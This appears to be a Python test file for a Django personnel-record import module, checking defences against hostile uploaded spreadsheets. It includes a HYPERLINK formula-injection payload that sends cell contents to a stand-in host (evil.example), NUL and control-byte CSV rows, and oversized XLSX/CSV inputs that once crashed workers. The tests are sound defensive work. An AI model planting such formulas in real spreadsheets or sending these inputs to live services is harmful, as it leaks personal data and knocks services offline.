"""Attack: a hostile unit's spreadsheet (formula injection into the error report, NUL bytes in a CSV)."""

from __future__ import annotations

import io
from typing import Any

import pytest
from openpyxl import load_workbook

from sidms.exchange import imports
from tests.exchange.conftest import HEADER, csv_bytes, id_number

pytestmark = [pytest.mark.django_db, pytest.mark.req("B3"), pytest.mark.req("R6.2")]

EVIL = '=HYPERLINK("http://evil.example/?"&B2&C2,"点此查看")'


def test_a_formula_in_an_uploaded_header_is_text_in_the_error_report(importers: tuple[Any, Any]) -> None:
    data = csv_bytes(
        [[*HEADER, EVIL], ["李四", "3.71002E+17", "男", "1960-01-01", "employee", "371002", "", "x"]]
    )
    checked = imports.check_file(data, kind="persons", filename="名单.csv")
    assert checked.errors()
    sheet = load_workbook(io.BytesIO(checked.report())).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == EVIL]
    assert cells, "the uploaded header is in the report"
    assert all(cell.data_type == "s" for cell in cells), "a formula from an uploaded file must stay text"


def test_nul_bytes_deep_in_a_csv_are_refused_or_removed(importers: tuple[Any, Any]) -> None:
    """Only the first 4 KB were checked for NUL; a NUL later reached the row values (PostgreSQL refuses
    NUL in text: the import would fail with a server error at execution, or store a hidden character)."""
    rows: list[list[Any]] = [HEADER]
    rows += [["张三", id_number(n), "男", "1960-01-01", "employee", "371002", ""] for n in range(1, 120)]
    rows.append(["王\x00五", id_number(200), "男", "1960-01-01", "employee", "371002", "1396310\x000001"])
    data = csv_bytes(rows)
    assert b"\x00" not in data[:4096]
    try:
        checked = imports.check_file(data, kind="persons", filename="名单.csv")
    except Exception as error:  # refused as a whole: fine, as long as it is the typed refusal
        from sidms.lib.sheets import SheetError

        assert isinstance(error, SheetError)
        return
    values = [str(v) for result in checked.valid for v in result.values.values()]
    assert any("五" in v for v in values) or checked.errors()
    assert not [v for v in values if "\x00" in v]


def test_control_characters_in_a_csv_do_not_break_the_error_report(importers: tuple[Any, Any]) -> None:
    """A row with a NUL (or another control character) is refused, and its error report still downloads:
    openpyxl refused to write such a cell, so the report failed with a server error."""
    rows: list[list[Any]] = [HEADER]
    rows += [["张三", id_number(n), "男", "1960-01-01", "employee", "371002", ""] for n in range(1, 120)]
    rows.append(["王\x00五", id_number(200), "男", "1960-01-01", "employee", "371002", "1396310\x1b0001"])
    checked = imports.check_file(csv_bytes(rows), kind="persons", filename="名单.csv")
    number = len(rows)
    assert number in checked.errors()
    report = [list(r) for r in load_workbook(io.BytesIO(checked.report())).active.iter_rows(values_only=True)]  # type: ignore[union-attr]
    row = next(r for r in report if r[0] == number)
    assert row[1] == "王\ufffd五" and "不可见的控制字符" in row[-1]


def _workbook_with_a_far_cell(row: int, column: int) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(HEADER)
    sheet.append(["张三", id_number(1), "男", "1960-01-01", "employee", "371002", ""])
    sheet.cell(row=row, column=column, value="x")
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def test_a_tiny_xlsx_whose_last_cell_is_xfd1048576_is_refused_before_it_is_expanded(
    importers: tuple[Any, Any],
) -> None:
    """5 KB of XLSX with one cell in XFD1048576: the reader built a dense grid of 17 billion cells and the
    process aborted (a web worker killed by one upload). Refused as too large now, with the extent named."""
    from sidms.lib.sheets import SheetError

    data = _workbook_with_a_far_cell(1_048_576, 16_384)
    assert len(data) < 10_000
    with pytest.raises(SheetError) as refused:
        imports.check_file(data, kind="persons", filename="名单.xlsx")
    assert refused.value.reason == "too_large" and "1048576 行 × 16384 列" in str(refused.value)
    # A workbook of ordinary extent is still read.
    checked = imports.check_file(_workbook_with_a_far_cell(30, 8), kind="persons", filename="名单.xlsx")
    assert [r.number for r in checked.valid] == [2]


def test_a_csv_with_a_million_columns_is_refused_when_read(importers: tuple[Any, Any]) -> None:
    """A CSV row of 1,000,000 cells was read, and its error report then failed with a server error
    (openpyxl has no column beyond ZZZ): refused at reading, naming the row."""
    from sidms.lib.sheets import SheetError

    data = csv_bytes([HEADER, ["李四", "3.71002E+17", "男", "1960-01-01", "employee", "371002", ""]])
    data += ("王五" + "," * 1_000_000 + "\r\n").encode()
    with pytest.raises(SheetError) as refused:
        imports.check_file(data, kind="persons", filename="名单.csv")
    assert refused.value.reason == "too_large" and "第 3 行" in str(refused.value)
